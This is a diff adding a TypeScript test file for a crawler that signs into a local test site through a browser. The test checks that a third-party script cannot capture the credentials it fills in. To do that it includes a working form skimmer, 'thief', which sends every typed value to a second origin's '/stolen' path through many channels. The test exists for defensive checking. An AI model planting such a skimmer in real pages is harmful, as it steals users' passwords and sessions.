@@ -1,0 +1,133 @@
+import assert from 'node:assert/strict'
+import type { IncomingMessage } from 'node:http'
+import { test } from 'node:test'
+import { serveHttp } from '#fetch/test-server.ts'
+import { credentialsSchema, type TypedCredentials } from '#shared/credentials.ts'
+import { openTestProduct, startTestCrawl, waitForEnd } from '../support/product.ts'
+
+/** A login form that only its scripts draw and send, with a real Chromium, beside scripts that try to read what is filled in. */
+
+const flags = { 'credentials-key': 'a key of the tests, which is long enough', 'render-timeout-ms': '5000' }
+const PASSWORD = 'secret-password-4711'
+const SESSION = 'secret-session-4711'
+
+async function textOf(request: IncomingMessage): Promise<string> {
+  let text = ''
+  for await (const part of request) text += part
+  return text
+}
+
+/** Two steps without a form; the second one replaces the first. `thief` sends every value elsewhere, in every way. */
+const loginPage = (other: string) => `<!doctype html><title>Log in</title><div id="app"></div>
+  <script src="${other}/library.js"></script>
+  <script>
+    const app = document.getElementById('app')
+    let name
+    app.innerHTML = '<input name="user"><button>Next</button>'
+    app.querySelector('button').onclick = () => {
+      name = app.querySelector('input').value
+      app.innerHTML = '<input type="password" name="word"><button>Log in</button><p></p>'
+      app.querySelector('button').onclick = async () => {
+        const word = app.querySelector('input').value
+        const response = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ name, word }) })
+        if (response.ok) app.innerHTML = '<h1 class="account">Account</h1>'
+        else app.querySelector('p').textContent = 'Wrong password'
+      }
+    }
+  </script>`
+
+const thief = (other: string) => `document.addEventListener('input', ({ target: { value } }) => {
+    const url = '${other}/stolen?' + encodeURIComponent(value)
+    fetch(url, { mode: 'no-cors' }).catch(() => {})
+    fetch(url, { mode: 'no-cors', method: 'POST', body: value, keepalive: true }).catch(() => {})
+    navigator.sendBeacon(url, value)
+    new Image().src = url
+    document.body.insertAdjacentHTML('beforeend', '<iframe src="' + url + '"></iframe><link rel="stylesheet" href="' + url + '"><link rel="prefetch" href="' + url + '">')
+    const form = document.body.appendChild(document.createElement('form'))
+    form.action = url
+    form.target = '_blank'
+    form.method = 'post'
+    form.submit()
+  })`
+
+interface Site extends AsyncDisposable {
+  origin: string
+  leaks: string[]
+  otherRequests: string[]
+}
+
+async function startSite(): Promise<Site> {
+  const leaks: string[] = []
+  const otherRequests: string[] = []
+  const other = await serveHttp((request, response) => {
+    void textOf(request).then(body => {
+      otherRequests.push(`${request.method} ${request.url}`)
+      const sent = decodeURIComponent(JSON.stringify([request.rawHeaders, request.url, body]))
+      if (/ann|secret/.test(sent)) leaks.push(sent)
+      response
+        .setHeader('content-type', 'text/javascript')
+        .end(request.url === '/library.js' ? thief(other.origin) : '')
+    })
+  })
+  const own = await serveHttp((request, response) => {
+    void textOf(request).then(body => {
+      const isSignedIn = request.headers.cookie?.includes(`sid=${SESSION}`) === true
+      response.setHeader('content-type', 'text/html')
+      if (request.url === '/api/login') {
+        const isRight = body === JSON.stringify({ name: 'ann', word: PASSWORD })
+        if (isRight) response.setHeader('set-cookie', `sid=${SESSION}; Path=/; HttpOnly`)
+        response.writeHead(isRight ? 200 : 403).end('{}')
+      } else if (request.url === '/login') response.end(loginPage(other.origin))
+      else if (!isSignedIn) response.writeHead(302, { location: '/login' }).end()
+      else response.end(`<title>Members</title><a href="/page">Page</a><iframe src="${other.origin}/frame"></iframe>`)
+    })
+  })
+  return {
+    origin: own.origin,
+    leaks,
+    otherRequests,
+    async [Symbol.asyncDispose]() {
+      await own[Symbol.asyncDispose]()
+      await other[Symbol.asyncDispose]()
+    },
+  }
+}
+
+function credentialsOf(site: Site, word: string) {
+  const given: TypedCredentials = {
+    origins: [site.origin],
+    signIn: {
+      url: `${site.origin}/login`,
+      steps: [
+        { fields: [{ field: 'username', value: 'ann' }] },
+        { fields: [{ field: 'current-password', value: word }] },
+      ],
+      proof: { kind: 'selector', value: 'h1.account' },
+    },
+  }
+  return credentialsSchema.parse(given)
+}
+
+test('a crawl signs in by scripts in a browser, and no other origin gets what is filled in', async () => {
+  await using site = await startSite()
+  await using opened = await openTestProduct({ flags })
+  const request = { url: `${site.origin}/`, credentials: credentialsOf(site, PASSWORD) }
+  const crawl = await waitForEnd(opened.product, await startTestCrawl(opened.product, request))
+  const pages = await opened.product.store.reading.pages(crawl.id, { limit: 10 })
+  assert.deepEqual([crawl.endReason, pages.map(({ statusCode }) => statusCode)], ['finished', [200, 200]])
+  assert.deepEqual(site.leaks, [])
+  assert.ok(site.otherRequests.includes('GET /library.js'), 'the other origin gave its script')
+})
+
+test('a wrong password is reported with what the page lacks', async () => {
+  await using site = await startSite()
+  await using opened = await openTestProduct({ flags })
+  const request = { url: `${site.origin}/`, credentials: credentialsOf(site, 'secret-wrong') }
+  const crawl = await waitForEnd(opened.product, await startTestCrawl(opened.product, request))
+  assert.equal(crawl.endReason, 'access-lost')
+  assert.ok(
+    crawl.endSentence.includes(`the sign-in failed, as ${site.origin}/login, which came then, has a login form again.`),
+    crawl.endSentence,
+  )
+  assert.deepEqual(site.leaks, [])
+})
